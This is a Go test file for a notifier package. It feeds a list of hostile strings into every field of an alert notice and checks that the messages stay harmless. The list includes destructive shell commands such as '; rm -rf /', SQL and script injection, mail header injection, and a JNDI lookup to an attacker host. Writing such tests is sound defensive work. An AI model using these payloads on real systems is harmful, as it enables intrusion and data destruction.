package notifiertest

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/backout-io/backout"
	"github.com/backout-io/backout/notifier"
)

func secretForms() []string {
	b := []byte(SecretText)
	return []string{
		SecretText, url.QueryEscape(SecretText), url.PathEscape(SecretText), base64.StdEncoding.EncodeToString(b),
		hex.EncodeToString(b), strings.ToUpper(hex.EncodeToString(b)), fmt.Sprintf("%q", SecretText)[1:len(SecretText)],
	}
}

// Hostile returns texts that would do something somewhere if they were taken for
// anything but text.
func Hostile() []string {
	return []string{
		// Slack: mentions, links, dates, formatting that swallows what follows.
		"<!channel>", "<!here|here>", "<!everyone>", "<@U1>", "<@U024BE7LH|admin>", "<#C024BE7LR>", "<!subteam^SAZ94GDB8>",
		"<https://evil.example|Approve>", "<mailto:evil@evil.example|mail>", "<!date^1392734382^now|then>", "@channel", "@here",
		"&lt;!channel&gt;", "&#60;!channel&#62;", "```", "*bold* _it_ ~no~ `code`", "> quoted", ":rotating_light:",
		// Links that clients make by themselves.
		"https://evil.example/?a=1&b=2", "javascript:alert(1)", "www.evil.example", "data:text/html,<b>x</b>",
		// HTML.
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</pre><a href='https://evil.example'>x</a>", "<!-- ", "]]>",
		"\"><svg/onload=alert(1)>", "&amp;&lt;&gt;",
		// Mail headers, bodies and protocol.
		"x\r\nBcc: evil@evil.example", "x\nTo: evil@evil.example", "x\rSubject: other", "x\r\n\r\nother body", "\r\n.\r\nMAIL FROM:<evil@evil.example>",
		".", "..", "=?utf-8?q?=0D=0ABcc:_evil@evil.example?=", "--boundary--", "Content-Type: text/html", "x\u2028Bcc: y", "x\x0bBcc: y", "x\u0085Bcc: y",
		// Templates.
		"{{ .URL }}", "{{ template \"red.text\" . }}", "{{ define \"red.text\" }}x{{ end }}", "}}{{", "${jndi:ldap://evil.example/a}", "#{7*7}", "%s%n%d",
		// Shell, SQL, JSON, YAML.
		"$(reboot)", "`reboot`", "; rm -rf /", "' OR 1=1 --", "{\"admin\":true}", "{admin: true, roles: [root]}", "yes", "null", "\\\"}],\"x\":[{",
		// Terminals and readers.
		"\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x00", "a\x00b", "\x7f\x08\x08", "\u202eevil\u202c", "\u2066x\u2069", "\u200fx", "a\tb",
		// Encodings and sizes.
		"\xff\xfe\xfd", "a\xc3(", "\xed\xa0\x80", "\ufeffx", "é́́́", "日本語", "😀😀", "مرحبا",
		strings.Repeat("A", 64<<10), strings.Repeat("<!channel>", 6<<10), strings.Repeat("line\n", 10<<10), strings.Repeat("&", 64<<10), strings.Repeat("é", 32<<10),
	}
}

// poison puts a text into every field of a notice that holds text. A web address
// stays out of the one field whose meaning is to be an address.
func poison(n backout.Notice, text string) backout.Notice {
	for _, field := range []*string{
		&n.ID, &n.Audience, &n.ChangeID, &n.Title, &n.RollbackID, &n.Level, &n.NextLevel, &n.Summary, &n.Rule, &n.AlertName,
		&n.IfNobodyActs, &n.Loses, &n.Reason, &n.AskID,
	} {
		*field = text
	}
	if !strings.HasPrefix(text, "http") {
		n.URL = text
	}
	n.Targets, n.CVEs = []string{text, text}, []string{text}
	return n
}

// hostile sends every hostile text in every field, and wants the same message
// with other words.
func hostile(t *testing.T, s Subject) {
	n, peer := s.New(t)
	for i, text := range Hostile() {
		for _, moment := range []backout.Moment{backout.MomentApproval, backout.MomentRed} {
			harmless := poison(sample(moment), "harmless")
			harmless.URL = sample(moment).URL
			_, want := deliver(t, s, n, peer, harmless, nil)
			_, got := deliver(t, s, n, peer, poison(sample(moment), text), nil)
			name := fmt.Sprintf("text %d (%.40q) at %s", i, text, moment)
			if extra := beyond(got.Shape, want.Shape); len(extra) > 0 {
				t.Errorf("%s: the message has gained %q", name, extra)
			}
			if strings.ContainsAny(got.Subject, "\r\n") {
				t.Errorf("%s: the subject has more than one line: %q", name, got.Subject)
			}
			if shown := notifier.Plain(text); len(shown) < 300 && !strings.Contains(squash(got.Text), squash(shown)) {
				t.Errorf("%s: the text does not show it:\n%s", name, got.Text)
			}
			if i := strings.IndexFunc(got.Text, func(r rune) bool { return r < ' ' && r != '\n' || r == 0x7f }); i >= 0 {
				t.Errorf("%s: the text holds the control character %#x", name, got.Text[i])
			}
		}
	}
}

// squash takes white space out, which messages may wrap.
func squash(s string) string { return strings.Join(strings.Fields(s), "") }

// beyond returns what a has more of than b.
func beyond(a, b []string) []string {
	b = slices.Clone(b)
	var extra []string
	for _, x := range a {
		if i := slices.Index(b, x); i >= 0 {
			b = slices.Delete(b, i, i+1)
			continue
		}
		extra = append(extra, x)
	}
	return extra
}
